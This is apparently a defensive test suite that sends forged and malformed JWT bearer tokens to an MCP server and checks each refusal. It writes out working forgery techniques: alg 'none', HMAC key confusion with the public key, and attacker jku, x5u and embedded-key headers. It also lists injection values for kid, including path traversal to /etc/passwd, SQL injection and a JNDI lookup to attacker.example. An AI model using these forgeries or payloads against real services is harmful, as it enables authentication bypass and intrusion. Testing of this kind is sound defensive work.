/**
 * Forged and malformed bearer tokens against a running `seed-mcp cloud` (issue #11): every kind of
 * token an attacker can write, sent byte for byte to `POST /mcp` (tools/call seed_ping). Each case
 * checks the status, the contract's `error` code, the `WWW-Authenticate` challenge's `error=`, that
 * the server still serves a good token afterwards and that nothing of the token reached the log.
 *
 * Three issuers: the real test IdP (its tokens are the good ones), a second trusted tenant whose
 * keys this test holds (a stub serving its metadata and JWKS: tokens with any claims, validly
 * signed), and an attacker with keys of their own and a server that must never hear from
 * `seed-mcp cloud` (it hosts the `jku`, `x5u` and `iss` the forged tokens name).
 */
import { createHmac, createPrivateKey, createPublicKey, generateKeyPairSync, sign, X509Certificate, type KeyObject } from 'node:crypto';
import type { ServerResponse } from 'node:http';
import { exportJWK, SignJWT, type JWTPayload } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningCloud } from '../../src/cloud/start.js';
import { json, startStub, type Stub } from '../support/http-stub.js';
import { DEFAULT_RESOURCE, startIdp, type TestIdp } from '../support/idp.js';
import { headerOf, mcpRequestLines, rawRequest, toolCall, type RawAnswer } from '../support/raw-http.js';
import { RESOURCE_HOST as HOST, startResourceServer } from '../support/resource-server.js';
import { selfSigned } from '../support/self-signed.js';

const PRM = `https://${HOST}/.well-known/oauth-protected-resource/mcp`;

let idp: TestIdp;
let server: RunningCloud;
let tenant: Stub;
let tenantIssuer: string;
let attacker: Stub;
/** A real token of the IdP, and its three segments. */
let good: string;
let gh: string;
let gp: string;
let gs: string;
let idpKid: string;
const logLines: string[] = [];

// ---------------------------------------------------------------------------------------------
// Keys and signers

const pair = (kind: 'rsa' | 'ec') => (kind === 'rsa' ? generateKeyPairSync('rsa', { modulusLength: 2048 }) : generateKeyPairSync('ec', { namedCurve: 'P-256' }));
/** The trusted tenant's keys (published in its JWKS as `t-rsa`, `t-ec`). */
const tenantKeys = { rsa: pair('rsa'), ec: pair('ec') };
/** The attacker's own keys, published nowhere this server trusts. */
const attackerKeys = { rsa: pair('rsa'), ec: pair('ec') };

const b64 = (value: unknown) => Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
const now = () => Math.floor(Date.now() / 1000);

/**
 * A compact JWS whose header and payload are whatever is given (text is taken as it is), signed
 * with `key` as `signedAs` says, whatever the header claims: what jose would
 * refuse to write.
 */
function signRaw(header: unknown, payload: unknown, key: KeyObject | Buffer, signedAs: 'RS256' | 'ES256' | 'HS256'): string {
  const input = `${b64(header)}.${b64(payload)}`;
  const data = Buffer.from(input);
  const signature =
    signedAs === 'HS256'
      ? createHmac('sha256', key as Buffer)
          .update(data)
          .digest()
      : signedAs === 'ES256'
        ? sign('sha256', data, { key: key as KeyObject, dsaEncoding: 'ieee-p1363' })
        : sign('sha256', data, key as KeyObject);
  return `${input}.${signature.toString('base64url')}`;
}

/** The claims of a good token of `iss`: for this server, `exp` in 10 minutes. */
const claimsOf = (iss: string): JWTPayload => ({ iss, aud: DEFAULT_RESOURCE, sub: 'mallory', scope: 'mcp:tools', iat: now(), exp: now() + 600 });

/** A token of the trusted tenant (jose), `claims` over the good ones (undefined drops a claim). */
function tenantToken(claims: Record<string, unknown> = {}, header: Record<string, unknown> = {}, key: 'rsa' | 'ec' = 'rsa'): Promise<string> {
  const alg = key === 'rsa' ? 'RS256' : 'ES256';
  return new SignJWT({ ...claimsOf(tenantIssuer), ...claims } as JWTPayload)
    .setProtectedHeader({ alg, typ: 'at+jwt', kid: `t-${key}`, ...header })
    .sign(tenantKeys[key].privateKey);
}

/** A token signed by the attacker's own key (jose), naming the IdP as issuer unless `claims` say otherwise. */
function attackerToken(header: Record<string, unknown>, claims: Record<string, unknown> = {}, key: 'rsa' | 'ec' = 'rsa'): Promise<string> {
  return new SignJWT({ ...claimsOf(idp.issuer), ...claims } as JWTPayload)
    .setProtectedHeader({ alg: key === 'rsa' ? 'RS256' : 'ES256', typ: 'at+jwt', ...header })
    .sign(attackerKeys[key].privateKey);
}

// ---------------------------------------------------------------------------------------------

beforeAll(async () => {
  const tenantJwks = {
    keys: [
      { ...(await exportJWK(tenantKeys.rsa.publicKey)), kid: 't-rsa', alg: 'RS256', use: 'sig' },
      { ...(await exportJWK(tenantKeys.ec.publicKey)), kid: 't-ec', alg: 'ES256', use: 'sig' },
    ],
  };
  tenant = await startStub((req, res, base) => {
    if (req.url === '/tenant/.well-known/openid-configuration') return json(res, 200, { issuer: `${base}/tenant`, jwks_uri: `${base}/tenant/jwks` });
    if (req.url === '/tenant/jwks') return json(res, 200, tenantJwks);
    json(res, 404, { error: 'not_found' });
  });
  tenantIssuer = `${tenant.url}/tenant`;
  // What the attacker would serve, were they ever asked: their own key set and "metadata".
  const attackerJwks = { keys: [{ ...(await exportJWK(attackerKeys.rsa.publicKey)), kid: 'attacker-1', alg: 'RS256', use: 'sig' }] };
  attacker = await startStub((req, res: ServerResponse, base) => {
    if (req.url?.endsWith('/openid-configuration')) return json(res, 200, { issuer: base, jwks_uri: `${base}/jwks.json` });
    json(res, 200, attackerJwks);
  });

  idp = await startIdp();
  server = await startResourceServer({ issuer: idp.issuer, allowTools: ['seed_ping'], env: { ALLOWED_ISSUERS: tenantIssuer }, logLines });
  good = await idp.serviceToken();
  [gh, gp, gs] = good.split('.') as [string, string, string];
  idpKid = idp.keys.keys.find((k) => k.kty === 'RSA')!.kid;
});

afterAll(async () => {
  await server?.close();
  await Promise.all([idp?.close(), tenant?.close(), attacker?.close()]);
});

// ---------------------------------------------------------------------------------------------
// Sending and checking

type Expected = 'accepted' | 'MISSING_AUTHORIZATION' | 'INVALID_TOKEN' | 'INVALID_SIGNATURE' | 'TOKEN_EXPIRED' | 'INVALID_AUDIENCE' | 'INVALID_ISSUER';

interface Case {
  name: string;
  /** The `Authorization` header's value as sent; undefined sends none. */
  authorization: () => string | undefined | Promise<string | undefined>;
  expected: Expected;
}

const bearer = (token: string) => `Bearer ${token}`;

/** POST /mcp tools/call seed_ping with `authorization` (or none), written byte for byte. */
function callWith(authorization: string | undefined): Promise<RawAnswer> {
  const lines = [...mcpRequestLines(HOST), ...(authorization === undefined ? [] : [`authorization: ${authorization}`])];
  return rawRequest(server.port, lines, toolCall('seed_ping'));
}

/** The `error=` of a Bearer challenge, or null when it has none. */
const challengeError = (challenge: string) => /(?:^bearer |, )error="([^"]*)"/.exec(challenge)?.[1] ?? null;

/** The pieces of a header value long enough to identify it in a log. */
const piecesOf = (value: string) => value.split(/[\s.,"]+/).filter((piece) => piece.length >= 16);

/** The good token is still served (whatever the attack did to caches and key sets). */
async function stillServes(): Promise<void> {
  const ok = await callWith(bearer(good));
  expect(ok.status, 'a good token afterwards').toBe(200);
  expect(ok.body).toContain('status');
}

/** Sends `c`, checks the answer, then that the server still serves and logged nothing of the token. */
async function check(c: Case): Promise<void> {
  const authorization = await c.authorization();
  const answer = await callWith(authorization);
  if (c.expected === 'accepted') {
    expect(answer.status, c.name).toBe(200);
    expect(answer.body, c.name).toContain('status');
  } else {
    expect(answer.status, c.name).toBe(401);
    const body = JSON.parse(answer.body) as { error: string; error_description: string; message: string };
    expect(body.error, c.name).toBe(c.expected);
    expect(body.message, c.name).toMatch(/^Action: /);
    const challenge = headerOf(answer, 'www-authenticate') ?? '';
    expect(challenge, c.name).toMatch(/^bearer /);
    expect(challengeError(challenge), c.name).toBe(c.expected === 'MISSING_AUTHORIZATION' ? null : 'invalid_token');
    expect(challenge, c.name).toContain(`resource_metadata="${PRM}"`);
    // The answer does not echo the token either.
    for (const piece of piecesOf(authorization ?? '')) expect(answer.body + answer.head, c.name).not.toContain(piece.toLowerCase());
  }
  await stillServes();
  const log = logLines.join('\n');
  for (const piece of [...piecesOf(authorization ?? ''), ...piecesOf(good)]) expect(log, `${c.name}: the log`).not.toContain(piece);
  // Nothing the token names was ever fetched.
  expect(attacker.requests, c.name).toEqual([]);
}

// ---------------------------------------------------------------------------------------------

describe('the signature algorithm', () => {
  const cases: Case[] = [
    { name: 'alg none without a signature', authorization: () => bearer(`${b64({ alg: 'none', typ: 'at+jwt' })}.${gp}.`), expected: 'INVALID_TOKEN' },
    { name: 'alg none with the original signature', authorization: () => bearer(`${b64({ alg: 'none', typ: 'at+jwt', kid: idpKid })}.${gp}.${gs}`), expected: 'INVALID_TOKEN' },
    { name: 'alg NoNe', authorization: () => bearer(`${b64({ alg: 'NoNe' })}.${gp}.`), expected: 'INVALID_TOKEN' },
    { name: 'no alg at all', authorization: () => bearer(`${b64({ typ: 'at+jwt', kid: idpKid })}.${gp}.${gs}`), expected: 'INVALID_TOKEN' },
    ...(['pem', 'der', 'jwk'] as const).flatMap((form) =>
      (['HS256', 'HS512'] as const).map((alg): Case => ({
        name: `${alg} signed with the IdP's public key (${form}) as the HMAC secret`,
        authorization: async () => {
          const jwk = idp.keys.keys.find((k) => k.kid === idpKid)!;
          const publicKey = createPublicKey({ key: jwk, format: 'jwk' });
          const secret =
            form === 'pem'
              ? Buffer.from(publicKey.export({ type: 'spki', format: 'pem' }) as string)
              : form === 'der'
                ? publicKey.export({ type: 'spki', format: 'der' })
                : Buffer.from(JSON.stringify(jwk));
          return bearer(await new SignJWT(claimsOf(idp.issuer)).setProtectedHeader({ alg, typ: 'at+jwt', kid: idpKid }).sign(new Uint8Array(secret)));
        },
        expected: 'INVALID_SIGNATURE',
      })),
    ),
    {
      name: 'HS256 with an empty secret and kid /dev/null',
      authorization: () => bearer(signRaw({ alg: 'HS256', typ: 'at+jwt', kid: '../../../../../../dev/null' }, claimsOf(idp.issuer), Buffer.alloc(0), 'HS256')),
      expected: 'INVALID_SIGNATURE',
    },
    // The header names one key type, the signature is the other's (and each kid in turn).
    ...(
      [
        ['RS256', 'EC', 'ES256'],
        ['ES256', 'RSA', 'RS256'],
      ] as const
    ).flatMap(([alg, other, signedAs]) =>
      (['t-rsa', 't-ec'] as const).map((kid): Case => ({
        name: `${alg} header over the tenant's ${other} signature (kid ${kid})`,
        authorization: () => bearer(signRaw({ alg, typ: 'at+jwt', kid }, claimsOf(tenantIssuer), tenantKeys[other === 'EC' ? 'ec' : 'rsa'].privateKey, signedAs)),
        expected: 'INVALID_SIGNATURE',
      })),
    ),
    {
      name: 'an encryption algorithm (RSA-OAEP) as alg',
      authorization: () => bearer(`${b64({ alg: 'RSA-OAEP', typ: 'at+jwt', kid: idpKid })}.${gp}.${gs}`),
      expected: 'INVALID_SIGNATURE',
    },
    // Controls: the tenant's own tokens pass, so every refusal here is the forgery's.
    { name: "the tenant's RS256 token (control)", authorization: async () => bearer(await tenantToken()), expected: 'accepted' },
    { name: "the tenant's ES256 token (control)", authorization: async () => bearer(await tenantToken({}, {}, 'ec')), expected: 'accepted' },
    {
      name: "the tenant's RS256 token signed by hand (control of the hand signer)",
      authorization: () => bearer(signRaw({ alg: 'RS256', typ: 'at+jwt', kid: 't-rsa' }, claimsOf(tenantIssuer), tenantKeys.rsa.privateKey, 'RS256')),
      expected: 'accepted',
    },
  ];
  it.each(cases)('$name', check);
});

describe('keys named by the token (jwk, jku, x5u, x5c, kid)', () => {
  const certificate = selfSigned();
  const cases: Case[] = [
    {
      name: "jwk: the attacker's public key embedded, no kid",
      authorization: async () => bearer(await attackerToken({ jwk: await exportJWK(attackerKeys.rsa.publicKey) })),
      expected: 'INVALID_SIGNATURE',
    },
    {
      name: "jwk: the attacker's public key embedded, with its kid",
      authorization: async () => bearer(await attackerToken({ kid: 'attacker-1', jwk: { ...(await exportJWK(attackerKeys.rsa.publicKey)), kid: 'attacker-1' } })),
      expected: 'INVALID_SIGNATURE',
    },
    {
      name: "jwk: the attacker's key embedded under the IdP's kid",
      authorization: async () => bearer(await attackerToken({ kid: idpKid, jwk: { ...(await exportJWK(attackerKeys.rsa.publicKey)), kid: idpKid } })),
      expected: 'INVALID_SIGNATURE',
    },
    {
      name: "jku: the attacker's JWKS URL",
      authorization: async () => bearer(await attackerToken({ jku: `${attacker.url}/jwks.json`, kid: 'attacker-1' })),
      expected: 'INVALID_SIGNATURE',
    },
    {
      name: "jku: the attacker's JWKS URL under the IdP's kid",
      authorization: async () => bearer(await attackerToken({ jku: `${attacker.url}/jwks.json`, kid: idpKid })),
      expected: 'INVALID_SIGNATURE',
    },
    { name: "x5u: the attacker's certificate URL", authorization: async () => bearer(await attackerToken({ x5u: `${attacker.url}/cert.pem` })), expected: 'INVALID_SIGNATURE' },
    {
      name: "x5c: the attacker's self-signed certificate",
      authorization: async () =>
        bearer(
          await new SignJWT(claimsOf(idp.issuer))
            .setProtectedHeader({ alg: 'ES256', typ: 'at+jwt', x5c: [new X509Certificate(certificate.cert).raw.toString('base64')] })
            .sign(createPrivateKey(certificate.key)),
        ),
      expected: 'INVALID_SIGNATURE',
    },
    { name: "kid of the IdP's key, signed by the attacker", authorization: async () => bearer(await attackerToken({ kid: idpKid })), expected: 'INVALID_SIGNATURE' },
    {
      name: "kid of the tenant's key, signed by the attacker",
      authorization: async () => bearer(await attackerToken({ kid: 't-ec' }, { iss: tenantIssuer }, 'ec')),
      expected: 'INVALID_SIGNATURE',
    },
    {
      name: "the tenant's key and kid, claiming the IdP as issuer",
      authorization: async () => bearer(await tenantToken({ iss: idp.issuer })),
      expected: 'INVALID_SIGNATURE',
    },
    { name: 'an unknown kid', authorization: async () => bearer(await attackerToken({ kid: 'no-such-key' })), expected: 'INVALID_SIGNATURE' },
    ...[
      '../../../../../../dev/null',
      '/etc/passwd',
      '../../../proc/self/environ',
      "' OR '1'='1",
      "x'; DROP TABLE keys; --",
      "\" UNION SELECT 'secret' --",
      '${jndi:ldap://attacker.example/a}',
      'a\u0000b',
      'k'.repeat(8_000),
    ].map((kid): Case => ({ name: `kid ${JSON.stringify(kid.slice(0, 40))}`, authorization: async () => bearer(await attackerToken({ kid })), expected: 'INVALID_SIGNATURE' })),
    ...[{ $ne: null }, 42, null, [idpKid], true].map((kid): Case => ({
      name: `kid ${JSON.stringify(kid)}`,
      authorization: () => bearer(signRaw({ alg: 'RS256', typ: 'at+jwt', kid }, claimsOf(idp.issuer), attackerKeys.rsa.privateKey, 'RS256')),
      expected: 'INVALID_SIGNATURE',
    })),
    { name: 'kid as a URL of the attacker', authorization: async () => bearer(await attackerToken({ kid: `${attacker.url}/key` })), expected: 'INVALID_SIGNATURE' },
  ];
  it.each(cases)('$name', check);

  it('invented kids cost each issuer at most one JWKS refetch, and the attacker no request', () => {
    const fetches = idp.requestLog.filter((r) => r.path === '/jwks').length;
    expect(fetches).toBeGreaterThanOrEqual(1);
    expect(fetches).toBeLessThanOrEqual(2);
    expect(tenant.requests.filter((r) => r.path === '/tenant/jwks').length).toBeLessThanOrEqual(2);
    expect(attacker.requests).toEqual([]);
  });
});

describe('the header', () => {
  const cases: Case[] = [
    {
      name: 'crit naming exp',
      authorization: () => bearer(signRaw({ alg: 'RS256', typ: 'at+jwt', kid: 't-rsa', crit: ['exp'] }, claimsOf(tenantIssuer), tenantKeys.rsa.privateKey, 'RS256')),
      expected: 'INVALID_TOKEN',
    },
    {
      name: 'crit naming an extension',
      authorization: () =>
        bearer(signRaw({ alg: 'RS256', typ: 'at+jwt', kid: 't-rsa', crit: ['urn:x:trusted'], 'urn:x:trusted': true }, claimsOf(tenantIssuer), tenantKeys.rsa.privateKey, 'RS256')),
      expected: 'INVALID_TOKEN',
    },
    {
      name: 'crit empty',
      authorization: () => bearer(signRaw({ alg: 'RS256', typ: 'at+jwt', kid: 't-rsa', crit: [] }, claimsOf(tenantIssuer), tenantKeys.rsa.privateKey, 'RS256')),
      expected: 'INVALID_TOKEN',
    },
    ...['application/id_token+jwt', 'dpop+jwt', 'secevent+jwt', 'logout+jwt', 'JOSE', 'JWS'].map((typ): Case => ({
      name: `typ ${typ}`,
      authorization: async () => bearer(await tenantToken({}, { typ })),
      expected: 'INVALID_TOKEN',
    })),
    {
      name: 'typ 42',
      authorization: () => bearer(signRaw({ alg: 'RS256', typ: 42, kid: 't-rsa' }, claimsOf(tenantIssuer), tenantKeys.rsa.privateKey, 'RS256')),
      expected: 'INVALID_TOKEN',
    },
    { name: 'typ JWT (accepted)', authorization: async () => bearer(await tenantToken({}, { typ: 'JWT' })), expected: 'accepted' },
    { name: 'typ application/at+jwt (accepted)', authorization: async () => bearer(await tenantToken({}, { typ: 'application/at+jwt' })), expected: 'accepted' },
  ];
  it.each(cases)('$name', check);
});

describe('the claims', () => {
  const cases: Case[] = [
    {
      name: 'iss of the attacker (who serves metadata)',
      authorization: async () => bearer(await attackerToken({ kid: 'attacker-1' }, { iss: attacker.url })),
      expected: 'INVALID_ISSUER',
    },
    { name: 'iss of an unknown issuer', authorization: async () => bearer(await attackerToken({}, { iss: 'https://evil.example' })), expected: 'INVALID_ISSUER' },
    {
      name: "iss of the tenant with a trailing slash (tenant's key)",
      authorization: async () => bearer(await tenantToken({ iss: `${tenantIssuer}/` })),
      expected: 'INVALID_ISSUER',
    },
    { name: "iss of the IdP with a trailing slash (tenant's key)", authorization: async () => bearer(await tenantToken({ iss: `${idp.issuer}/` })), expected: 'INVALID_ISSUER' },
    {
      name: 'iss of the tenant under another host name',
      authorization: async () => bearer(await tenantToken({ iss: tenantIssuer.replace('127.0.0.1', 'localhost') })),
      expected: 'INVALID_ISSUER',
    },
    { name: 'iss of the tenant in upper case', authorization: async () => bearer(await tenantToken({ iss: tenantIssuer.toUpperCase() })), expected: 'INVALID_ISSUER' },
    { name: 'iss missing', authorization: async () => bearer(await tenantToken({ iss: undefined })), expected: 'INVALID_ISSUER' },
    { name: 'iss a list of the tenant', authorization: async () => bearer(await tenantToken({ iss: [tenantIssuer] })), expected: 'INVALID_ISSUER' },
    { name: 'aud missing', authorization: async () => bearer(await tenantToken({ aud: undefined })), expected: 'INVALID_TOKEN' },
    { name: 'aud another resource', authorization: async () => bearer(await tenantToken({ aud: 'https://other.example.test/mcp' })), expected: 'INVALID_AUDIENCE' },
    { name: 'aud ours with a trailing slash', authorization: async () => bearer(await tenantToken({ aud: `${DEFAULT_RESOURCE}/` })), expected: 'INVALID_AUDIENCE' },
    {
      name: 'aud an array without ours',
      authorization: async () => bearer(await tenantToken({ aud: ['https://other.example.test/mcp', tenantIssuer, 'mcp.example.test'] })),
      expected: 'INVALID_AUDIENCE',
    },
    { name: 'aud a number', authorization: async () => bearer(await tenantToken({ aud: 42 })), expected: 'INVALID_AUDIENCE' },
    {
      name: 'aud an array with ours (accepted)',
      authorization: async () => bearer(await tenantToken({ aud: ['https://other.example.test/mcp', DEFAULT_RESOURCE] })),
      expected: 'accepted',
    },
    { name: 'exp an hour ago', authorization: async () => bearer(await tenantToken({ iat: now() - 7200, exp: now() - 3600 })), expected: 'TOKEN_EXPIRED' },
    { name: 'exp past the clock tolerance', authorization: async () => bearer(await tenantToken({ exp: now() - 60 })), expected: 'TOKEN_EXPIRED' },
    { name: 'exp missing', authorization: async () => bearer(await tenantToken({ exp: undefined })), expected: 'INVALID_TOKEN' },
    { name: 'exp not a number', authorization: async () => bearer(await tenantToken({ exp: String(now() + 600) })), expected: 'INVALID_TOKEN' },
    { name: 'nbf in an hour', authorization: async () => bearer(await tenantToken({ nbf: now() + 3600 })), expected: 'INVALID_TOKEN' },
    { name: 'iat in an hour', authorization: async () => bearer(await tenantToken({ iat: now() + 3600, exp: now() + 7200 })), expected: 'INVALID_TOKEN' },
    { name: 'sub missing (no client_id, no azp)', authorization: async () => bearer(await tenantToken({ sub: undefined })), expected: 'INVALID_TOKEN' },
    { name: 'sub empty', authorization: async () => bearer(await tenantToken({ sub: '' })), expected: 'INVALID_TOKEN' },
    { name: 'sub a number', authorization: async () => bearer(await tenantToken({ sub: 42 })), expected: 'INVALID_TOKEN' },
    {
      name: 'a changed claim under the original signature',
      authorization: () => bearer(`${gh}.${b64({ ...JSON.parse(Buffer.from(gp, 'base64url').toString()), sub: 'admin' })}.${gs}`),
      expected: 'INVALID_SIGNATURE',
    },
  ];
  it.each(cases)('$name', check);
});

/** `segment` with another last character that decodes to the same bytes (its unused bits set). */
function withUnusedBitsSet(segment: string): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  const last = alphabet.indexOf(segment.at(-1)!);
  const respelled = segment.slice(0, -1) + alphabet[last | 1];
  expect(respelled).not.toBe(segment);
  expect(Buffer.from(respelled, 'base64url').equals(Buffer.from(segment, 'base64url'))).toBe(true);
  return respelled;
}

describe('the shape', () => {
  const cases: Case[] = [
    { name: 'a header that is not JSON', authorization: () => bearer(`${b64('not json')}.${gp}.${gs}`), expected: 'INVALID_TOKEN' },
    { name: 'a header that is a JSON array', authorization: () => bearer(`${b64([{ alg: 'RS256' }])}.${gp}.${gs}`), expected: 'INVALID_TOKEN' },
    { name: 'a header that is null', authorization: () => bearer(`${b64('null')}.${gp}.${gs}`), expected: 'INVALID_TOKEN' },
    {
      name: 'a payload that is not JSON (validly signed)',
      authorization: () => bearer(signRaw({ alg: 'RS256', typ: 'at+jwt', kid: 't-rsa' }, 'not json', tenantKeys.rsa.privateKey, 'RS256')),
      expected: 'INVALID_TOKEN',
    },
    {
      name: 'a payload that is a JSON array (validly signed)',
      authorization: () => bearer(signRaw({ alg: 'RS256', typ: 'at+jwt', kid: 't-rsa' }, [claimsOf(tenantIssuer)], tenantKeys.rsa.privateKey, 'RS256')),
      expected: 'INVALID_TOKEN',
    },
    {
      name: 'a payload that is a JSON string (validly signed)',
      authorization: () => bearer(signRaw({ alg: 'RS256', typ: 'at+jwt', kid: 't-rsa' }, JSON.stringify('alice'), tenantKeys.rsa.privateKey, 'RS256')),
      expected: 'INVALID_TOKEN',
    },
    { name: 'four segments', authorization: () => bearer(`${good}.${gs}`), expected: 'INVALID_TOKEN' },
    { name: 'five segments (a JWE shape)', authorization: () => bearer(`${gh}.${gp}.${gs}.${gs}.${gs}`), expected: 'INVALID_TOKEN' },
    { name: 'two segments', authorization: () => bearer(`${gh}.${gp}`), expected: 'INVALID_TOKEN' },
    { name: 'one segment', authorization: () => bearer(gh), expected: 'INVALID_TOKEN' },
    { name: 'an empty header', authorization: () => bearer(`.${gp}.${gs}`), expected: 'INVALID_TOKEN' },
    { name: 'an empty payload', authorization: () => bearer(`${gh}..${gs}`), expected: 'INVALID_TOKEN' },
    { name: 'an empty signature', authorization: () => bearer(`${gh}.${gp}.`), expected: 'INVALID_SIGNATURE' },
    { name: 'only dots', authorization: () => bearer('..'), expected: 'INVALID_TOKEN' },
    { name: 'base64 padding on the signature', authorization: () => bearer(`${good}==`), expected: 'INVALID_TOKEN' },
    { name: 'base64 padding on the payload', authorization: () => bearer(`${gh}.${gp}=.${gs}`), expected: 'INVALID_TOKEN' },
    { name: 'the standard alphabet (+ and /) in the signature', authorization: () => bearer(`${gh}.${gp}.+/${gs.slice(2)}`), expected: 'INVALID_TOKEN' },
    { name: 'unused bits set in the signature’s last character', authorization: () => bearer(`${gh}.${gp}.${withUnusedBitsSet(gs)}`), expected: 'INVALID_TOKEN' },
    { name: 'a space inside the token', authorization: () => bearer(`${gh}. ${gp}.${gs}`), expected: 'INVALID_TOKEN' },
    { name: 'a tab inside the token', authorization: () => bearer(`${gh}.${gp}\t.${gs}`), expected: 'INVALID_TOKEN' },
    { name: 'the token in quotes', authorization: () => bearer(`"${good}"`), expected: 'INVALID_TOKEN' },
    { name: 'a 16 KB token just under the header limit', authorization: () => bearer(`${'A'.repeat(5_300)}.${'A'.repeat(5_300)}.${'A'.repeat(5_300)}`), expected: 'INVALID_TOKEN' },
  ];
  it.each(cases)('$name', check);
});

describe('the scheme', () => {
  const basic = `Basic ${Buffer.from('seed-service:service-secret').toString('base64')}`;
  const cases: Case[] = [
    { name: 'no Authorization header', authorization: () => undefined, expected: 'MISSING_AUTHORIZATION' },
    { name: 'an empty Authorization header', authorization: () => '', expected: 'MISSING_AUTHORIZATION' },
    { name: 'Basic credentials', authorization: () => basic, expected: 'MISSING_AUTHORIZATION' },
    { name: 'Basic with the token', authorization: () => `Basic ${good}`, expected: 'MISSING_AUTHORIZATION' },
    { name: 'another scheme (Token)', authorization: () => `Token ${good}`, expected: 'MISSING_AUTHORIZATION' },
    { name: 'DPoP', authorization: () => `DPoP ${good}`, expected: 'MISSING_AUTHORIZATION' },
    { name: 'Bearer glued to the token', authorization: () => `Bearer${good}`, expected: 'MISSING_AUTHORIZATION' },
    { name: 'Bearer and nothing', authorization: () => 'Bearer', expected: 'INVALID_TOKEN' },
    { name: 'Bearer with two tokens (good, good)', authorization: () => `Bearer ${good} ${good}`, expected: 'INVALID_TOKEN' },
    { name: 'Bearer with two tokens (forged, good)', authorization: () => `Bearer ${gh}.${gp}. ${good}`, expected: 'INVALID_TOKEN' },
    { name: 'Bearer with two tokens, comma-separated', authorization: () => `Bearer ${good}, Bearer ${good}`, expected: 'INVALID_TOKEN' },
    { name: 'lower-case bearer (accepted)', authorization: () => `bearer ${good}`, expected: 'accepted' },
    { name: 'upper-case BEARER (accepted)', authorization: () => `BEARER ${good}`, expected: 'accepted' },
    { name: 'several spaces after Bearer (accepted)', authorization: () => `Bearer    ${good}`, expected: 'accepted' },
  ];
  it.each(cases)('$name', check);
});

describe('sizes', () => {
  /** The bytes of a request's head around a token of length 0. */
  const headBytes = () =>
    [...mcpRequestLines(HOST), 'authorization: Bearer ', `content-length: ${Buffer.byteLength(toolCall('seed_ping'))}`, 'connection: close'].join('\r\n').length + 4;

  it('a token just over the 16 KiB header limit: 431 from Node, never 500, and the server keeps serving', async () => {
    const token = 'A'.repeat(16 * 1024 - headBytes() + 64);
    const answer = await callWith(bearer(token));
    expect(answer.status).toBe(431);
    await stillServes();
  });

  it('a 100 KB token: 431, never 500, and the server keeps serving', async () => {
    const payload = b64({ ...claimsOf(tenantIssuer), pad: 'x'.repeat(100_000) });
    const token = `${b64({ alg: 'RS256', typ: 'at+jwt', kid: 't-rsa' })}.${payload}.${gs}`;
    expect(token.length).toBeGreaterThan(100_000);
    const answer = await callWith(bearer(token));
    expect(answer.status).toBe(431);
    await stillServes();
    const log = logLines.join('\n');
    expect(log).not.toContain(payload.slice(0, 64));
  });

  it('the log holds refusals, by code, and not one token', () => {
    const log = logLines.join('\n');
    for (const code of ['INVALID_TOKEN', 'INVALID_SIGNATURE', 'TOKEN_EXPIRED', 'INVALID_AUDIENCE', 'INVALID_ISSUER', 'MISSING_AUTHORIZATION'])
      expect(log).toContain(`"code":"${code}"`);
    expect(log).not.toMatch(/eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}/);
    expect(attacker.requests).toEqual([]);
  });
});
